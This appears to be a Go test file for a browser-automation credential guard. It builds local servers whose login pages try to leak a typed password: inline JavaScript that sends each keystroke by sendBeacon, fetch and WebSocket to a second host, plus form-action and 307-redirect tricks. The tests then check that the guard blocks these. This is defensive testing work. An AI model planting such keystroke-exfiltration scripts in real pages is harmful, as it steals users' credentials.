package browser

import (
	"bytes"
	"context"
	"crypto/sha1"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"image"
	"image/png"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestFillRefusedOnUnnamedHost: a login page on a host the target file does
// not name never receives the user's credentials.
func TestFillRefusedOnUnnamedHost(t *testing.T) {
	d := startDemo(t)
	s := newSession(t, shared)
	s.GuardFills([]string{"login.example.test:443"})
	ctx := context.Background()
	if err := s.Navigate(ctx, d.URL+"/login"); err != nil {
		t.Fatal(err)
	}
	err := s.Run(ctx, loginScript, user)
	if err == nil || !strings.Contains(err.Error(), "refusing to type") {
		t.Fatalf("want a refusal to type into %s, got %v", d.URL, err)
	}
	if d.count("/consent") != 0 {
		t.Fatal("the form was submitted")
	}
	if strings.Contains(err.Error(), "geheim-42") {
		t.Fatal("the error leaks the password")
	}
}

// recorder is the "second host": a listener on 127.0.0.2 that keeps every
// byte it receives, WebSocket frames unmasked, so a test can prove that no
// byte of a password got there.
type recorder struct {
	URL, WS string // http://127.0.0.2:port and ws://127.0.0.2:port
	mu      sync.Mutex
	got     bytes.Buffer
}

func (r *recorder) bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]byte(nil), r.got.Bytes()...)
}

func (r *recorder) Write(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.got.Write(p)
}

type recordingConn struct {
	net.Conn
	r *recorder
}

func (c recordingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	_, _ = c.r.Write(p[:n])
	return n, err
}

type recordingListener struct {
	net.Listener
	r *recorder
}

func (l recordingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return recordingConn{c, l.r}, nil
}

func startRecorder(t *testing.T) *recorder {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no second loopback address: %v", err)
	}
	r := &recorder{URL: "http://" + ln.Addr().String(), WS: "ws://" + ln.Addr().String()}
	mux := http.NewServeMux()
	mux.HandleFunc("/collect", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("/font.png", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "image/gif")
		_, _ = w.Write([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
	})
	mux.HandleFunc("/login", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><title>Inloggen</title>`+strings.Replace(loginForm, `action="/consent"`, `action="/collect"`, 1))
	})
	mux.HandleFunc("/ws", func(w http.ResponseWriter, req *http.Request) {
		sum := sha1.Sum([]byte(req.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
		conn, buf, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n",
			base64.StdEncoding.EncodeToString(sum[:]))
		for { // client frames are masked: record their payloads in clear
			var h [2]byte
			if _, err := io.ReadFull(buf, h[:]); err != nil {
				return
			}
			n := int(h[1] & 0x7f)
			if n >= 126 {
				return // our pages send short messages
			}
			var key [4]byte
			payload := make([]byte, n)
			if _, err := io.ReadFull(buf, key[:]); err != nil {
				return
			}
			if _, err := io.ReadFull(buf, payload); err != nil {
				return
			}
			for i := range payload {
				payload[i] ^= key[i%4]
			}
			_, _ = r.Write(payload)
		}
	})
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(recordingListener{ln, r}) }()
	t.Cleanup(func() { _ = srv.Close() })
	return r
}

// hostileAS is an authorization server's login pages, on a host the target
// file names, that try to send the typed password to the recorder.
func hostileAS(t *testing.T, evil *recorder) (base string, hits func(string) int32) {
	t.Helper()
	d := startDemo(t) // /consent, /approve and hit counts
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	page := func(w http.ResponseWriter, body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html><head><title>Inloggen</title></head><body><h1>Inloggen</h1>%s</body></html>`, body)
	}
	form := func(action string) string {
		return strings.Replace(loginForm, `action="/consent"`, `action="`+action+`"`, 1)
	}
	// The demo's consent page, reached through this server.
	proxyTo := func(w http.ResponseWriter, r *http.Request, path string) {
		req, _ := http.NewRequest(r.Method, d.URL+path, r.Body)
		req.Header = r.Header.Clone()
		res, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer res.Body.Close()
		for k, v := range res.Header {
			w.Header()[k] = v
		}
		w.WriteHeader(res.StatusCode)
		_, _ = io.Copy(w, res.Body)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/consent", func(w http.ResponseWriter, r *http.Request) { proxyTo(w, r, "/consent") })
	mux.HandleFunc("/approve", func(w http.ResponseWriter, r *http.Request) { proxyTo(w, r, "/approve") })
	mux.HandleFunc("/form-elsewhere", func(w http.ResponseWriter, r *http.Request) { page(w, form(evil.URL+"/collect")) })
	mux.HandleFunc("/login-307", func(w http.ResponseWriter, r *http.Request) { page(w, form("/post-307")) })
	mux.HandleFunc("/post-307", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/collect", http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/login-307-same", func(w http.ResponseWriter, r *http.Request) { page(w, form("/post-307-same")) })
	mux.HandleFunc("/post-307-same", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/consent", http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/login-beacon", func(w http.ResponseWriter, r *http.Request) {
		page(w, form("/consent")+`<script>
document.getElementById('password').addEventListener('input', e => {
  const v = e.target.value;
  navigator.sendBeacon('`+evil.URL+`/collect?p=' + encodeURIComponent(v), v);
  fetch('`+evil.URL+`/collect', {method: 'POST', mode: 'no-cors', body: v}).catch(() => {});
});
</script>`)
	})
	mux.HandleFunc("/login-ws", func(w http.ResponseWriter, r *http.Request) {
		page(w, form("/consent")+`<script>
// One socket opened before anything is typed, one after.
const early = new WebSocket('`+evil.WS+`/ws');
document.getElementById('password').addEventListener('input', e => {
  const v = e.target.value;
  try { early.send(v); } catch (_) {}
  const late = new WebSocket('`+evil.WS+`/ws?p=' + encodeURIComponent(v));
  late.onopen = () => late.send(v);
});
</script>`)
	})
	mux.HandleFunc("/login-cdn", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<img id="logo" src="`+evil.URL+`/font.png?`+r.URL.RawQuery+`">`+form("/consent"))
	})
	mux.HandleFunc("/login-plain", func(w http.ResponseWriter, r *http.Request) {
		// The password field shows what is typed.
		page(w, strings.Replace(form("/consent"), `type="password"`, `type="text"`, 1))
	})
	mux.HandleFunc("/framed-plain", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<iframe id="idp" src="/login-plain" style="width:600px;height:300px"></iframe>`)
	})
	mux.HandleFunc("/to-evil-login", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/login", http.StatusFound)
	})
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return "http://" + ln.Addr().String(), d.count
}

var loginOnly = loginScript[:3]

// waitUntil polls cond (state the browser reaches asynchronously) for up
// to d.
func waitUntil(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
	return true
}

func hasKind(list []Blocked, kind string) bool {
	for _, b := range list {
		if b.Kind == kind {
			return true
		}
	}
	return false
}

// TestGuardKeepsPasswordOnNamedHosts: for each way a page on a named host
// can send a typed password elsewhere, not one byte of it reaches the other
// host, and Blocked says what was stopped. Each page is also run without the
// guard, to prove it really does send the password.
func TestGuardKeepsPasswordOnNamedHosts(t *testing.T) {
	needBrowser(t)
	evil := startRecorder(t)
	base, _ := hostileAS(t, evil)
	named := strings.TrimPrefix(base, "http://")
	password := []byte(user["password"])
	cases := []struct {
		name, path string
		kinds      []string // what Blocked must contain
		refused    bool     // the fill itself is refused
	}{
		{name: "form action elsewhere", path: "/form-elsewhere", kinds: []string{"form"}},
		{name: "307 of the login post", path: "/login-307", kinds: []string{"redirect"}},
		{name: "beacon and fetch", path: "/login-beacon", kinds: []string{"beacon", "fetch"}},
		{name: "websocket", path: "/login-ws", kinds: []string{"websocket"}},
		{name: "login page on an unnamed host", path: "/to-evil-login", refused: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ctx := context.Background()
			// Without the guard the page gets the password out: the case
			// tests something.
			free := newSession(t, shared)
			if err := free.Navigate(ctx, base+tc.path); err != nil {
				t.Fatal(err)
			}
			if err := free.Run(ctx, loginOnly, user); err != nil {
				t.Fatal(err)
			}
			if !waitUntil(3*time.Second, func() bool { return bytes.Contains(evil.bytes(), password) }) {
				t.Fatalf("unguarded, the page did not send the password to %s; the case proves nothing", evil.URL)
			}
			_ = free.Close()
			evil.mu.Lock()
			evil.got.Reset()
			evil.mu.Unlock()

			s := newSession(t, shared)
			s.Guard([]string{named})
			if err := s.Navigate(ctx, base+tc.path); err != nil {
				t.Fatal(err)
			}
			err := s.Run(ctx, loginOnly, user)
			if tc.refused {
				if err == nil || !strings.Contains(err.Error(), "refusing to type") {
					t.Fatalf("want the fill refused, got %v", err)
				}
			} else if err != nil {
				t.Fatal(err)
			}
			waitUntil(3*time.Second, func() bool {
				for _, k := range tc.kinds {
					if !hasKind(s.Blocked(), k) {
						return false
					}
				}
				return true
			})
			time.Sleep(200 * time.Millisecond) // anything still on its way
			if got := evil.bytes(); bytes.Contains(got, password) {
				t.Fatalf("the password reached %s:\n%s", evil.URL, got)
			}
			blocked := s.Blocked()
			t.Logf("blocked: %+v", blocked)
			for _, k := range tc.kinds {
				if !hasKind(blocked, k) {
					t.Errorf("Blocked() = %+v, want a %q request", blocked, k)
				}
			}
			for _, b := range blocked {
				if strings.Contains(b.URL, user["password"]) {
					t.Errorf("Blocked() leaks the password: %+v", b)
				}
				if b.Kind != "other" && !strings.HasPrefix(b.URL, evil.URL) && !strings.HasPrefix(b.URL, evil.WS) {
					t.Errorf("blocked %+v, which is not a request to %s", b, evil.URL)
				}
			}
			if tc.refused && len(blocked) != 0 {
				t.Errorf("nothing was typed, yet Blocked() = %+v", blocked)
			}
		})
	}
}

// TestGuardListsCredentialRedirects: a 307 of the login post to the named
// host itself is let through (the login works), and is listed, because it
// makes the browser post the password again.
func TestGuardListsCredentialRedirects(t *testing.T) {
	needBrowser(t)
	evil := startRecorder(t)
	base, hits := hostileAS(t, evil)
	s := newSession(t, shared)
	s.Guard([]string{strings.TrimPrefix(base, "http://")})
	ctx := context.Background()
	if err := s.Navigate(ctx, base+"/login-307-same"); err != nil {
		t.Fatal(err)
	}
	if err := s.Run(ctx, loginScript, user); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Callback(ctx); err != nil {
		t.Fatal(err) // the redirect URI's host is not named: still answered by the session
	}
	if hits("/consent") != 1 {
		t.Errorf("the consent page was asked for %d times, want 1", hits("/consent"))
	}
	want := []Redirect{{Method: "POST", From: base + "/post-307-same", To: base + "/consent", Status: 307}}
	if got := s.CredentialRedirects(); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("CredentialRedirects() = %+v, want %+v", got, want)
	}
	if b := s.Blocked(); len(b) != 0 {
		t.Errorf("requests to the named host were blocked: %+v", b)
	}
}

// TestGuardAllowsOtherHostsBeforeFill: before anything is typed, a login
// page may load what it needs from a host the file does not name.
func TestGuardAllowsOtherHostsBeforeFill(t *testing.T) {
	needBrowser(t)
	evil := startRecorder(t)
	base, _ := hostileAS(t, evil)
	s := newSession(t, shared)
	s.Guard([]string{strings.TrimPrefix(base, "http://")})
	ctx := context.Background()
	if err := s.Navigate(ctx, base+"/login-cdn?before-fill"); err != nil {
		t.Fatal(err)
	}
	if !waitUntil(3*time.Second, func() bool { return bytes.Contains(evil.bytes(), []byte("GET /font.png?before-fill")) }) {
		t.Fatal("the login page's image on the other host was not loaded")
	}
	if err := s.Run(ctx, loginScript, user); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Callback(ctx); err != nil {
		t.Fatal(err)
	}
	if b := s.Blocked(); len(b) != 0 {
		t.Errorf("Blocked() = %+v, want nothing", b)
	}
}

// TestReusedSessionGuardReset: the next scenario on a reused session starts
// with nothing typed, nothing blocked and no redirects of the last one.
func TestReusedSessionGuardReset(t *testing.T) {
	needBrowser(t)
	evil := startRecorder(t)
	base, _ := hostileAS(t, evil)
	named := []string{strings.TrimPrefix(base, "http://")}
	b := New(Options{})
	defer b.Close()
	ctx := context.Background()
	first, err := b.Session(ctx, []string{callbackURL})
	if err != nil {
		t.Fatal(err)
	}
	first.Guard(named)
	if err := first.Navigate(ctx, base+"/login-307"); err != nil {
		t.Fatal(err)
	}
	if err := first.Run(ctx, loginOnly, user); err != nil {
		t.Fatal(err)
	}
	if !waitUntil(3*time.Second, func() bool { return len(first.Blocked()) > 0 && len(first.CredentialRedirects()) > 0 }) {
		t.Fatalf("the first scenario blocked %+v and saw redirects %+v", first.Blocked(), first.CredentialRedirects())
	}
	_ = first.Close()
	second, err := b.Session(ctx, []string{callbackURL})
	if err != nil {
		t.Fatal(err)
	}
	defer second.Close()
	if second != first {
		t.Skip("the closed session was not reused; nothing to check")
	}
	if bl, rd := second.Blocked(), second.CredentialRedirects(); len(bl) != 0 || len(rd) != 0 {
		t.Fatalf("left over: blocked %+v, redirects %+v", bl, rd)
	}
	second.Guard(named)
	if err := second.Navigate(ctx, base+"/login-cdn?second"); err != nil {
		t.Fatal(err)
	}
	if !waitUntil(3*time.Second, func() bool { return bytes.Contains(evil.bytes(), []byte("GET /font.png?second")) }) {
		t.Fatal("the reused session still counts the last scenario's fill: the other host was refused before any fill")
	}
}

// TestTrustedCAThroughTunnel: the guard's CONNECT tunnel leaves TLS between
// the browser and the server, so the SPKI list still decides trust.
func TestTrustedCAThroughTunnel(t *testing.T) {
	needBrowser(t)
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>tls</title><p>secure hello</p>")
	}))
	defer srv.Close()
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
	b := New(Options{TrustedCAs: [][]byte{ca}})
	defer b.Close()
	s := newSession(t, b)
	s.Guard([]string{strings.TrimPrefix(srv.URL, "https://")})
	ctx := context.Background()
	if err := s.Navigate(ctx, srv.URL+"/"); err != nil {
		t.Fatal(err)
	}
	text, err := s.Text(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text, "secure hello") {
		t.Fatalf("the page over TLS shows %q", text)
	}
	if s.proxy == nil {
		t.Fatal("the session has no proxy")
	}
}

// TestScreenshotMasksTypedValues: a password field rendered as type=text
// shows the mask, not the password, in a screenshot, in the top document
// and in an iframe; afterwards the field holds the password again and the
// login works.
func TestScreenshotMasksTypedValues(t *testing.T) {
	needBrowser(t)
	evil := startRecorder(t)
	base, hits := hostileAS(t, evil)
	for _, tc := range []struct {
		name, path, frame string
	}{
		{"top document", "/login-plain", ""},
		{"iframe", "/framed-plain", "#idp"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newSession(t, shared)
			ctx := context.Background()
			if err := s.Navigate(ctx, base+tc.path); err != nil {
				t.Fatal(err)
			}
			script := make([]Action, 3)
			copy(script, loginOnly)
			for i := range script {
				script[i].Target.Frame = tc.frame
			}
			if err := s.Run(ctx, script[:2], user); err != nil {
				t.Fatal(err)
			}
			// In the field's document; no caret, so pictures compare.
			doc := `document`
			if tc.frame != "" {
				doc = `document.querySelector('` + tc.frame + `').contentDocument`
			}
			fields := func(expr string) string {
				res, err := s.evaluate(ctx, `(() => { const d = `+doc+`; `+expr+`; return d.querySelector('#username').value + '|' + d.querySelector('#password').value; })()`, true)
				if err != nil {
					t.Fatal(err)
				}
				return res.Value.Str()
			}
			fields(`d.activeElement && d.activeElement.blur()`)
			shot := func() image.Image {
				if err := s.Screenshot(ctx, "typed"); err != nil {
					t.Fatal(err)
				}
				shots := s.Shots()
				img, err := png.Decode(bytes.NewReader(shots[len(shots)-1].PNG))
				if err != nil {
					t.Fatal(err)
				}
				return img
			}
			masked := shot()
			if got := fields(""); got != "jan|geheim-42" {
				t.Fatalf("after the screenshot the fields hold %q, want the typed values back", got)
			}
			// The same page with the mask typed for real, and with the
			// password visible (no secrets known): the first is what the
			// screenshot must look like, the second proves the pictures
			// differ when the password shows.
			fields(`d.querySelector('#username').value = d.querySelector('#password').value = '` + fieldMask + `'`)
			withMask := shot()
			fields(`d.querySelector('#username').value = 'jan'; d.querySelector('#password').value = 'geheim-42'`)
			s.mu.Lock()
			secrets := s.secrets
			s.secrets = nil
			s.mu.Unlock()
			visible := shot()
			s.mu.Lock()
			s.secrets = secrets
			s.mu.Unlock()
			if !sameImage(masked, withMask) {
				t.Error("the screenshot differs from the page with the mask in its fields")
			}
			if sameImage(masked, visible) {
				t.Error("the screenshot looks like the page with the password visible")
			}
			before := hits("/consent")
			if err := s.Run(ctx, script[2:], user); err != nil {
				t.Fatal(err)
			}
			if !waitUntil(3*time.Second, func() bool { return hits("/consent") > before }) {
				t.Fatal("the login form was not submitted")
			}
			text, _ := s.evaluate(ctx, doc+`.body.innerText`, true)
			if !strings.Contains(text.Value.Str(), "Toestaan") {
				t.Errorf("after the screenshots the login failed: %q", text.Value.Str())
			}
		})
	}
}

func sameImage(a, b image.Image) bool {
	if a.Bounds() != b.Bounds() {
		return false
	}
	r := a.Bounds()
	for y := r.Min.Y; y < r.Max.Y; y++ {
		for x := r.Min.X; x < r.Max.X; x++ {
			if a.At(x, y) != b.At(x, y) {
				return false
			}
		}
	}
	return true
}
